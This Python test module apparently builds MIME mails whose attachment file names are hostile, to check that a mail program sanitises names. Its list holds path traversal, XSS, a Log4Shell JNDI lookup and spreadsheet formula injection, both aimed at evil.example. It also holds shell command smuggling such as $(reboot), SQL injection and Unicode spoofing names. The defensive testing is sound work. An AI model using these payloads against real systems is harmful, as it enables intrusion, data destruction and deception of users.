"""Make file names that attack whoever writes, shows, exports or downloads a file (threat B9).

`HOSTILE_NAMES` can be given to any place that takes a name. The mails carry all of them twice,
percent-encoded (RFC 2231) and as encoded words (RFC 2047). Their attachments are plain text, so
that nothing but the name is wrong.
"""

import base64
from collections.abc import Callable
from urllib.parse import quote_from_bytes

from tests.samples.mail.wire import Expects, HostileMail, mail, multipart, part

NAMES_IN_A_MAIL = 10

HOSTILE_NAMES: list[str] = [
    # Out of the folder.
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/cron.d/evil",
    "C:\\Windows\\evil.dll",
    "\\\\evil.example\\share\\x.pdf",
    "file:///etc/passwd",
    "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "..",
    ".",
    "",
    " ",
    "~root/.ssh/authorized_keys",
    "papers/../../x.pdf",
    "..\u2215..\u2215etc\u2215passwd",
    # Hidden, reserved or special.
    ".htaccess",
    "\u200b.htaccess",
    ".htaccess\u200b",
    "web.config",
    "CON",
    "con.pdf",
    "NUL.txt",
    "COM1",
    "aux.tar.gz",
    "LPT9 .pdf",
    "x.pdf.",
    "x.pdf ",
    "x.pdf::$DATA",
    "-rf",
    "--help.pdf",
    # Control and format characters.
    "a\0.pdf",
    "x.exe\0.pdf",
    "a\r\nContent-Type: text/html\r\n\r\n<b>x</b>.pdf",
    "a\nb.pdf",
    "a\tb.pdf",
    "\x1b[31mred\x1b[0m.pdf",
    "a\x7fb\x08.pdf",
    "invoice\u202efdp.exe",
    "\u2067abc\u2069\u202d.pdf",
    "a\u2028b\u2029.pdf",
    "a\ufeff.pdf",
    "x\u00ad.pdf",
    "\U000e0041\U000e0042.pdf",
    "a\ufffe\uffff.pdf",
    "a\ud800b.pdf",
    # Another type than it seems, or too much.
    "invoice.pdf.exe",
    "invoice.pdf                                                        .exe",
    "invoice.рdf",
    "a.php;.pdf",
    "n" * 4_096 + ".pdf",
    "å" * 200 + ".pdf",
    "e\u0301" * 150 + ".pdf",
    "a" + "\u0300" * 500 + ".pdf",
    # Markup, scripts, formulas, templates, commands.
    "<img src=x onerror=alert(1)>.pdf",
    '"><script>alert(1)</script>.pdf',
    "'-alert(1)-'.pdf",
    "javascript:alert(1)",
    "{{7*7}}.pdf",
    "${jndi:ldap://evil.example/a}.pdf",
    "%s%n%x.pdf",
    "=cmd|' /C calc'!A0.pdf",
    '=HYPERLINK("http://evil.example","x").pdf',
    "+1+1.pdf",
    "@SUM(1).pdf",
    "＝1+1.pdf",
    "$(reboot).pdf",
    "`reboot`.pdf",
    "a;reboot.pdf",
    "a|reboot&.pdf",
    "'; DROP TABLE documents;--.pdf",
    'a"; filename="b.exe',
    "*?[a-z].pdf",
]


def percent_encoded(name: str) -> bytes:
    """Write the name as an RFC 2231 parameter: `å` gives `filename*=utf-8''%C3%A5`."""
    return b"filename*=utf-8''" + quote_from_bytes(_bytes_of(name), safe="").encode()


def encoded_word(name: str) -> bytes:
    """Write the name as one encoded word in quotes, as many programs do though none should."""
    return b'filename="=?utf-8?b?' + base64.b64encode(_bytes_of(name)) + b'?="'


def _bytes_of(name: str) -> bytes:
    # A lone surrogate has no UTF-8; the bytes one would have are what an attacker sends.
    return name.encode("utf-8", "surrogatepass")


def _named_parts(name: str, names: list[str], parameter: Callable[[str], bytes]) -> HostileMail:
    parts = [
        part(
            [
                b"Content-Type: text/plain",
                b"Content-Disposition: attachment; " + parameter(file_name),
            ],
            b"only the name is hostile: %d\r\n" % number,
        )
        for number, file_name in enumerate(names)
    ]
    raw = mail(
        name,
        headers=[b"Content-Type: multipart/mixed; boundary=b"],
        body=multipart(b"b", parts),
    )
    return HostileMail(name, raw, "B9", Expects.SAFE_NAMES)


def _batches() -> list[list[str]]:
    starts = range(0, len(HOSTILE_NAMES), NAMES_IN_A_MAIL)
    return [HOSTILE_NAMES[start : start + NAMES_IN_A_MAIL] for start in starts]


HOSTILE_FILE_NAMES = [
    _named_parts(f"names-{way}-{number}", names, parameter)
    for way, parameter in (("percent", percent_encoded), ("word", encoded_word))
    for number, names in enumerate(_batches(), start=1)
]
